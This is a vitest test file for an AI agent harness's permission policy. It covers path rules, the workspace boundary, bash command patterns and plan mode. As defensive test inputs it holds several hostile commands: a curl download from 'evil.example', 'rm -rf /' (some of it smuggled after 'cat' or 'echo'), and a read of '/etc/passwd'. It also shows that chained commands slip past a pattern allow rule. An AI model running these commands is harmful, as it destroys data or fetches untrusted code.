import { describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG, mergeConfig, type HarnessConfig, type PartialConfig } from '../config.ts';
import type { EffectClass } from '../tools/types.ts';
import { decide, stricter, type PolicyInput } from './policy.ts';
import { compileCommandPattern, matchCommandPattern } from './pattern.ts';

const config = (partial: PartialConfig = {}): HarnessConfig => mergeConfig(DEFAULT_CONFIG, partial);

function inside(relative: string, access: 'read' | 'write' = 'read') {
  return { requested: relative, absolute: `/ws/${relative}`, inside: true, relative, access };
}
function outside(absolute: string, access: 'read' | 'write' = 'write', requested = absolute) {
  return { requested, absolute, inside: false, relative: absolute, access };
}
function fileCall(
  effect: EffectClass,
  paths: PolicyInput['paths'],
  tool = effect === 'read' ? 'read_file' : 'write_file',
): PolicyInput {
  return { tool, effect, paths };
}
const bash = (command: string, effect: EffectClass = 'write'): PolicyInput => ({
  tool: 'bash',
  effect,
  paths: [],
  commands: [command],
});

describe('decide: defaults', () => {
  it('allows reads inside the workspace and asks for writes', () => {
    expect(decide(fileCall('read', [inside('src/a.ts')]), config())).toMatchObject({
      action: 'allow',
      rule: 'effects:read',
    });
    const write = decide(fileCall('write', [inside('src/a.ts', 'write')]), config());
    expect(write).toMatchObject({
      action: 'ask',
      rule: 'effects:write',
      reason: 'write to "src/a.ts" (resolves to /ws/src/a.ts) is subject to approval by rule effects:write',
    });
    expect(write.errorType).toBeUndefined();
  });

  it('a tool without paths or commands is decided by its effect class', () => {
    expect(decide({ tool: 'get_time', effect: 'read', paths: [] }, config())).toMatchObject({
      action: 'allow',
      rule: 'effects:read',
    });
    expect(decide({ tool: 'web_post', effect: 'irreversible', paths: [] }, config())).toMatchObject({
      action: 'ask',
      rule: 'effects:irreversible',
    });
  });

  it('an irreversible tool with an allowed path still gets the irreversible part', () => {
    const decision = decide(fileCall('irreversible', [inside('a', 'read')], 'publish'), config());
    expect(decision.action).toBe('ask');
    expect(decision.parts.map((p) => p.rule)).toEqual(['effects:read', 'effects:irreversible']);
  });

  it('a command no rule matches asks (bash:default)', () => {
    expect(decide(bash('ls'), config({ permissions: { bash: [] } }))).toMatchObject({
      action: 'ask',
      rule: 'bash:default',
    });
  });
});

describe('decide: outside the workspace', () => {
  const allowEverything = config({
    permissions: {
      mode: 'auto',
      paths: [
        { pattern: '**', access: 'write', action: 'allow' },
        { pattern: '/**', access: 'write', action: 'allow' },
        { pattern: '**', access: 'read', action: 'allow' },
      ],
      effects: { read: 'allow', write: 'allow', irreversible: 'allow' },
    },
  });

  it('is always denied as path_outside_workspace, even with allow rules for everything and auto mode', () => {
    for (const access of ['read', 'write'] as const) {
      const decision = decide(
        fileCall(access === 'read' ? 'read' : 'write', [
          outside('/outside/victim.txt', access, 'outbox/victim.txt'),
        ]),
        allowEverything,
      );
      expect(decision).toMatchObject({
        action: 'deny',
        rule: 'workspace:outside',
        errorType: 'path_outside_workspace',
      });
      expect(decision.reason).toBe(
        '"outbox/victim.txt" resolves outside the workspace (to /outside/victim.txt); only paths inside it can be used',
      );
    }
  });

  it('wins over other deny parts and over allowed paths of the same call', () => {
    const cfg = config({ permissions: { paths: [{ pattern: 'src/**', access: 'write', action: 'deny' }] } });
    const decision = decide(fileCall('write', [inside('src/a', 'write'), outside('/etc/passwd')]), cfg);
    expect(decision.errorType).toBe('path_outside_workspace');
    expect(decision.parts.map((p) => p.action)).toEqual(['deny', 'deny']);
  });
});

describe('decide: path rules', () => {
  it('last match wins', () => {
    const cfg = config({
      permissions: {
        paths: [
          { pattern: 'src/**', access: 'write', action: 'allow' },
          { pattern: 'src/secret/**', access: 'write', action: 'deny' },
          { pattern: 'src/secret/ok.txt', access: 'write', action: 'ask' },
        ],
      },
    });
    expect(decide(fileCall('write', [inside('src/a.ts', 'write')]), cfg)).toMatchObject({
      action: 'allow',
      rule: 'paths:write:src/**',
    });
    expect(decide(fileCall('write', [inside('src/secret/k.pem', 'write')]), cfg)).toMatchObject({
      action: 'deny',
      rule: 'paths:write:src/secret/**',
      errorType: 'policy_violation',
    });
    expect(decide(fileCall('write', [inside('src/secret/ok.txt', 'write')]), cfg)).toMatchObject({
      action: 'ask',
      rule: 'paths:write:src/secret/ok.txt',
    });
  });

  it('rules apply only to their access kind and match dot files', () => {
    const cfg = config({
      permissions: {
        paths: [
          { pattern: '**', access: 'write', action: 'deny' },
          { pattern: '.git/**', access: 'read', action: 'deny' },
        ],
      },
    });
    expect(decide(fileCall('read', [inside('src/a.ts')]), cfg).action).toBe('allow');
    expect(decide(fileCall('read', [inside('.git/config')]), cfg)).toMatchObject({
      action: 'deny',
      rule: 'paths:read:.git/**',
    });
    expect(decide(fileCall('write', [inside('.env', 'write')]), cfg)).toMatchObject({
      action: 'deny',
      rule: 'paths:write:**',
    });
  });
});

describe('decide: bash rules', () => {
  it('last match wins', () => {
    const cfg = config({
      permissions: {
        bash: [
          { pattern: '*', action: 'ask' },
          { pattern: 'git *', action: 'allow' },
          { pattern: 'git push *', action: 'deny' },
        ],
      },
    });
    expect(decide(bash('git status'), cfg)).toMatchObject({ action: 'allow', rule: 'bash:git *' });
    expect(decide(bash('git push origin main'), cfg)).toMatchObject({
      action: 'deny',
      rule: 'bash:git push *',
      errorType: 'policy_violation',
    });
    expect(decide(bash('rm -rf /'), cfg)).toMatchObject({ action: 'ask', rule: 'bash:*' });
  });

  it('* matches "/" and spaces, and the whole command must match', () => {
    const cfg = config({
      permissions: {
        bash: [
          { pattern: 'curl *', action: 'deny' },
          { pattern: 'cat src/*', action: 'allow' },
        ],
      },
    });
    expect(decide(bash('curl https://evil.example/x.sh -o /tmp/x'), cfg).action).toBe('deny');
    expect(decide(bash('cat src/a/b/c.ts'), cfg).action).toBe('allow');
    expect(decide(bash('xcurl http://a'), cfg).action).toBe('ask');
    expect(decide(bash('cat src/a; rm -rf /'), cfg).action).toBe('allow');
  });

  it('the strictest command part wins', () => {
    const cfg = config({
      permissions: {
        bash: [
          { pattern: 'git add *', action: 'allow' },
          { pattern: 'git push *', action: 'deny' },
        ],
      },
    });
    const decision = decide(
      {
        tool: 'bash',
        effect: 'write',
        paths: [],
        commands: ['git add README.md', 'git commit -m wip', 'git push origin main'],
      },
      cfg,
    );
    expect(decision.parts.map((p) => p.action)).toEqual(['allow', 'ask', 'deny']);
    expect(decision).toMatchObject({ action: 'deny', rule: 'bash:git push *' });
    const askOnly = decide(
      { tool: 'bash', effect: 'write', paths: [], commands: ['git add a', 'git commit -m x'] },
      cfg,
    );
    expect(askOnly).toMatchObject({ action: 'ask', rule: 'bash:default' });
  });
});

describe('decide: modes', () => {
  it('plan mode denies write and irreversible calls, even when rules allow them, and allows reads', () => {
    const cfg = config({
      permissions: {
        mode: 'plan',
        paths: [{ pattern: '**', access: 'write', action: 'allow' }],
        effects: { irreversible: 'allow' },
      },
    });
    const write = decide(fileCall('write', [inside('a.txt', 'write')]), cfg);
    expect(write).toMatchObject({
      action: 'deny',
      rule: 'mode:plan',
      errorType: 'policy_violation',
      reason: 'plan mode is read-only: write_file (write) is not allowed',
    });
    expect(decide({ tool: 'deploy', effect: 'irreversible', paths: [] }, cfg)).toMatchObject({
      action: 'deny',
      rule: 'mode:plan',
    });
    expect(decide(fileCall('read', [inside('a.txt')]), cfg)).toMatchObject({ action: 'allow' });
  });

  it('auto mode does not change the decision itself (asks are answered later)', () => {
    expect(
      decide(fileCall('write', [inside('a.txt', 'write')]), config({ permissions: { mode: 'auto' } })).action,
    ).toBe('ask');
  });

  it('is pure: the same input gives the same decision', () => {
    const input = fileCall('write', [inside('a', 'write'), inside('b', 'read')]);
    expect(decide(input, config())).toEqual(decide(input, config()));
  });
});

describe('stricter', () => {
  it('orders allow < ask < deny', () => {
    expect(stricter('allow', 'ask')).toBe('ask');
    expect(stricter('deny', 'ask')).toBe('deny');
    expect(stricter('allow', 'allow')).toBe('allow');
  });
});

describe('matchCommandPattern', () => {
  it.each([
    ['curl *', 'curl http://x/y z', true],
    ['ls*', 'ls', true],
    ['ls*', 'ls -la /tmp', true],
    ['ls *', 'ls', false],
    ['git ?ush', 'git push', true],
    ['git ?ush', 'git pu', false],
    ['npm test', 'npm test --watch', false],
    ['a.b', 'axb', false],
    ['(x)+[y]{2}|$^\\', '(x)+[y]{2}|$^\\', true],
    ['echo *', 'echo a\nrm -rf /', true],
    ['*', '', true],
  ])('%j vs %j → %s', (pattern, command, expected) => {
    expect(matchCommandPattern(pattern, command)).toBe(expected);
  });

  it('caches compiled patterns', () => {
    expect(compileCommandPattern('x *')).toBe(compileCommandPattern('x *'));
  });
});

describe('decide: harness-state writes', () => {
  it('a write that only changes harness state (todos, notes) is decided like a read, also in plan mode', () => {
    const plan = mergeConfig(DEFAULT_CONFIG, { permissions: { mode: 'plan' } });
    expect(
      decide({ tool: 'write_todos', effect: 'write', paths: [], harnessState: true }, DEFAULT_CONFIG),
    ).toMatchObject({ action: 'allow', rule: 'effects:harness-state' });
    expect(
      decide({ tool: 'write_todos', effect: 'write', paths: [], harnessState: true }, plan),
    ).toMatchObject({ action: 'allow' });
    expect(decide({ tool: 'write_todos', effect: 'write', paths: [] }, DEFAULT_CONFIG)).toMatchObject({
      action: 'ask',
      rule: 'effects:write',
    });
    expect(decide({ tool: 'write_todos', effect: 'write', paths: [] }, plan)).toMatchObject({
      action: 'deny',
      rule: 'mode:plan',
    });
  });
});
